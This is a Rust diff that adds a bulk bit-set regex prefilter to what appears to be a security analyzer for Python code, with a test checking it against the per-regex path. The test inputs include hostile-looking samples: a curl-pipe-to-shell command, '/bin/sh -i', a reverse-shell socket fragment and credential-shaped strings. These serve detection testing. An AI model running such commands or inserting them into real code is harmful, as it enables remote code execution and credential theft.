@@ -57,6 +57,21 @@ pub(crate) fn has_bit(bits: &Bits, index: usize) -> bool {
     bits.get(index / 64).is_some_and(|w| w & (1u64 << (index % 64)) != 0)
 }
 
+/// Adds the bits of `other` to `bits`.
+pub(crate) fn union_into(bits: &mut Bits, other: &Bits) {
+    if bits.len() < other.len() {
+        bits.resize(other.len(), 0);
+    }
+    for (a, b) in bits.iter_mut().zip(other) {
+        *a |= b;
+    }
+}
+
+/// Whether the two sets share a bit.
+pub(crate) fn intersects(a: &Bits, b: &Bits) -> bool {
+    a.iter().zip(b).any(|(x, y)| x & y != 0)
+}
+
 /// The indices of the bits set, in order.
 pub(crate) fn bit_indices(bits: &Bits) -> impl Iterator<Item = u32> + '_ {
     bits.iter().enumerate().flat_map(|(word, &w)| {
@@ -144,6 +159,22 @@ impl Gate {
         has_bit(&self.gated, index as usize)
     }
 
+    /// The regexes that have factors.
+    pub(crate) fn gated(&self) -> &Bits {
+        &self.gated
+    }
+
+    /// The gated regexes that have single-byte factors.
+    pub(crate) fn byte_factored(&self) -> Bits {
+        let mut out = Bits::new();
+        for (index, list) in self.bytes.iter().enumerate() {
+            if !list.is_empty() {
+                set_bit(&mut out, index);
+            }
+        }
+        out
+    }
+
     /// The gated regexes whose multi-byte factors occur in `text` (long enough for them).
     fn found(&self, text: &str) -> Bits {
         let mut out = Bits::new();
@@ -177,6 +208,109 @@ impl Gate {
             })
         })
     }
+}
+
+/// The string regexes' prefilters as bit sets, so that a candidate is tested against all the
+/// regexes its rules need at once (see [`Lazy::possible`]) rather than one regex at a time.
+#[derive(Debug, Default)]
+pub(crate) struct Prefilter {
+    /// By text length `n` (up to the longest minimum), the regexes whose matches need at most
+    /// `n` bytes.
+    long_enough: Vec<Bits>,
+    /// The gated regexes.
+    gated: Bits,
+    /// The gated regexes with single-byte factors (tried when none of their longer factors
+    /// occur).
+    byte_factored: Bits,
+    /// The ungated regexes with a set of required bytes.
+    required: Bits,
+    /// The ungated regexes without one: always admitted once the text is long enough.
+    free: Bits,
+}
+
+/// Texts this long or longer have their length mask computed rather than looked up.
+pub(crate) const LENGTH_TABLE_MAX: usize = 4096;
+
+impl Prefilter {
+    pub(crate) fn new(compiled: &Compiled) -> Self {
+        let count = compiled.string_regexes.len();
+        let longest = compiled.string_min_len.iter().copied().max().unwrap_or(0);
+        let long_enough = (0..=longest.min(LENGTH_TABLE_MAX))
+            .map(|n| Self::mask_by_length(compiled, n))
+            .collect();
+        let gated = compiled.string_gate.gated().clone();
+        let mut required = Bits::new();
+        let mut free = Bits::new();
+        for index in 0..count {
+            if has_bit(&gated, index) {
+                continue;
+            }
+            match compiled.string_required.get(index) {
+                Some(Some(_)) => set_bit(&mut required, index),
+                _ => set_bit(&mut free, index),
+            }
+        }
+        Self {
+            long_enough,
+            byte_factored: compiled.string_gate.byte_factored(),
+            gated,
+            required,
+            free,
+        }
+    }
+
+    fn mask_by_length(compiled: &Compiled, len: usize) -> Bits {
+        let mut out = Bits::new();
+        for (index, &min) in compiled.string_min_len.iter().enumerate() {
+            if len >= min {
+                set_bit(&mut out, index);
+            }
+        }
+        out
+    }
+}
+
+/// The string rules a candidate of some length may satisfy without other hits at its node
+/// (long enough, and with a non-ASCII character if the rule needs one), by index into
+/// `Compiled::string_rules`, and the union of the regexes they need.
+#[derive(Clone, Debug, Default)]
+pub(crate) struct Fit {
+    pub(crate) rules: Bits,
+    pub(crate) wanted: Bits,
+}
+
+impl Fit {
+    /// `[ascii, not ascii]` per length up to the longest rule minimum (capped at
+    /// [`LENGTH_TABLE_MAX`]).
+    pub(crate) fn table(compiled: &Compiled) -> Vec<[Fit; 2]> {
+        let longest = compiled.string_rule_min_len.iter().copied().max().unwrap_or(0);
+        (0..=longest.min(LENGTH_TABLE_MAX))
+            .map(|len| [Self::of(compiled, len, true), Self::of(compiled, len, false)])
+            .collect()
+    }
+
+    pub(crate) fn of(compiled: &Compiled, len: usize, ascii: bool) -> Fit {
+        let mut fit = Fit::default();
+        let needs = compiled
+            .string_rule_min_len
+            .iter()
+            .zip(&compiled.string_rule_non_ascii)
+            .zip(&compiled.string_rule_regexes);
+        for (k, ((&min, &non_ascii), regexes)) in needs.enumerate() {
+            if len >= min && !(non_ascii && ascii) {
+                set_bit(&mut fit.rules, k);
+                if let Some(regexes) = regexes {
+                    union_into(&mut fit.wanted, regexes);
+                }
+            }
+        }
+        fit
+    }
+}
+
+/// Word `w` of a bit set (zero past its end).
+fn word(bits: &Bits, w: usize) -> u64 {
+    bits.get(w).copied().unwrap_or(0)
 }
 
 /// Runs a string leaf's regex on `text` the first time a rule needs it, unless the text is
@@ -215,6 +349,24 @@ impl Lazy<'_> {
     }
 }
 
+impl Lazy<'_> {
+    /// Regex `index` may match: its prefilters admit the text (the single-byte and required-byte
+    /// tests computed here, `found` being the factor search's result).
+    fn bytes_admit(&mut self, index: u32) -> bool {
+        let c = self.compiled;
+        let text = self.text;
+        let present = self.present.get_or_insert_with(|| ByteSet::of_text(text));
+        if c.string_gate.is_gated(index) {
+            c.string_gate.bytes_admit(index, text.len(), present)
+        } else {
+            match c.string_required.get(index as usize) {
+                Some(Some(required)) => required.intersects(present),
+                _ => true,
+            }
+        }
+    }
+}
+
 impl StringOracle for Lazy<'_> {
     fn text_len(&self) -> usize {
         self.text.len()
@@ -238,8 +390,51 @@ impl StringOracle for Lazy<'_> {
         matched
     }
 
-    fn may_match(&mut self, index: u32) -> bool {
-        self.memo.get(index).unwrap_or_else(|| self.admits(index))
+    fn possible(&mut self, wanted: &Bits) -> Bits {
+        let c = self.compiled;
+        let p = &c.string_prefilter;
+        let len = self.text.len();
+        let computed;
+        let long_enough = match p.long_enough.get(len) {
+            Some(mask) => mask,
+            None if len <= LENGTH_TABLE_MAX => p.long_enough.last().unwrap_or(&p.free),
+            None => {
+                computed = Prefilter::mask_by_length(c, len);
+                &computed
+            }
+        };
+        // Known results first; the others are asked of the prefilters, all words at once.
+        let mut out = Bits::new();
+        let mut ask = Bits::new();
+        let mut ask_gated = 0u64;
+        for (w, &want) in wanted.iter().enumerate() {
+            let known = word(&self.memo.known, w);
+            out.push(want & known & word(&self.memo.value, w));
+            let asked = want & !known & word(long_enough, w);
+            ask.push(asked);
+            ask_gated |= asked & word(&p.gated, w);
+        }
+        // The factor search, once per text, only when a gated regex is asked.
+        let found = if ask_gated == 0 {
+            None
+        } else {
+            let text = self.text;
+            Some(&*self.admitted.get_or_insert_with(|| c.string_gate.found(text)))
+        };
+        let mut by_bytes = Bits::new();
+        for (w, &asked) in ask.iter().enumerate() {
+            let gated = asked & word(&p.gated, w);
+            let hit = found.map_or(0, |f| word(f, w));
+            out[w] |= (gated & hit) | (asked & word(&p.free, w));
+            by_bytes
+                .push((gated & !hit & word(&p.byte_factored, w)) | (asked & word(&p.required, w)));
+        }
+        for index in bit_indices(&by_bytes) {
+            if self.bytes_admit(index) {
+                set_bit(&mut out, index as usize);
+            }
+        }
+        out
     }
 }
 
@@ -356,5 +551,97 @@ mod tests {
         let an = analyzer(&pack("TST503", "{string: 'x{100}'}"));
         let got = findings(&an, &format!("s = '{}'\n", "x".repeat(200)));
         assert_eq!(got[0].2.chars().count(), 83);
+    }
+
+    /// The bulk prefilter (`possible`) admits exactly the regexes the one-at-a-time test
+    /// (`admits`, with the memo) admits, on texts that exercise each kind of prefilter: short,
+    /// long, non-ASCII, with and without literal factors, single-byte factors and required
+    /// bytes, and with results already known.
+    #[test]
+    fn bulk_prefilter_agrees_with_one_regex_at_a_time() {
+        let rules = pysbx_rules::builtin_rules().expect("built-in rules load");
+        let builtin = crate::Analyzer::new(&rules).expect("built-in rules compile");
+        // Regexes without factors or required bytes (admitted by length alone), with a
+        // single-byte factor, and with short minimum lengths.
+        let custom = analyzer(&pack(
+            "TST509",
+            "{any: [{string: '^$'}, {string: 'x?y?'}, {string: '[A-Z]{3}'}, {string: 'ab+c'}, {string: '(?i)token'}, {string: '\\.'}, {string: 'é'}]}",
+        ));
+        for an in [&builtin, &custom] {
+            prefilters_agree(an);
+        }
+    }
+
+    fn prefilters_agree(an: &crate::Analyzer) {
+        use super::{Bits, Lazy, Memo, bit_indices, has_bit, set_bit};
+        use crate::matchers::StringOracle;
+        let c = &an.compiled;
+        let count = c.string_regexes.len();
+        assert!(count > 0, "the rules have string regexes");
+        let mut all = Bits::new();
+        for index in 0..count {
+            set_bit(&mut all, index);
+        }
+        let long_b64 = "QUJD".repeat(40);
+        let texts = [
+            "",
+            "a",
+            "ab",
+            "eval",
+            "exec(",
+            "os.system",
+            "/bin/sh -i",
+            "http://10.0.0.1:4444/x",
+            "AKIAABCDEFGHIJKLMNOP",
+            "password",
+            "ghp_0123456789abcdefghijklmnopqrstuvwxyz",
+            "-----BEGIN RSA PRIVATE KEY-----",
+            "caf\u{e9}",
+            "a\u{202e}b",
+            "\u{212a}ey",
+            "x = __import__('os')",
+            "curl http://example.com | sh",
+            long_b64.as_str(),
+            "import socket,subprocess;s=socket.socket()",
+        ];
+        for text in texts {
+            for known_first in [false, true] {
+                let mut memo = Memo::default();
+                if known_first {
+                    // Results already known for the first few regexes, both ways.
+                    for index in 0..count.min(6) {
+                        memo.set(u32::try_from(index).unwrap_or(0), index % 2 == 0);
+                    }
+                }
+                let mut bulk_memo = memo.clone();
+                let mut bulk = Lazy {
+                    compiled: c,
+                    text,
+                    memo: &mut bulk_memo,
+                    present: None,
+                    admitted: None,
+                    ascii: None,
+                };
+                let possible = bulk.possible(&all);
+                let mut single = Lazy {
+                    compiled: c,
+                    text,
+                    memo: &mut memo,
+                    present: None,
+                    admitted: None,
+                    ascii: None,
+                };
+                for index in 0..count {
+                    let i = u32::try_from(index).unwrap_or(0);
+                    let expected = single.memo.get(i).unwrap_or_else(|| single.admits(i));
+                    assert_eq!(
+                        has_bit(&possible, index),
+                        expected,
+                        "regex {index} on {text:?} (memo {known_first})"
+                    );
+                }
+                assert!(bit_indices(&possible).all(|i| (i as usize) < count));
+            }
+        }
     }
 }
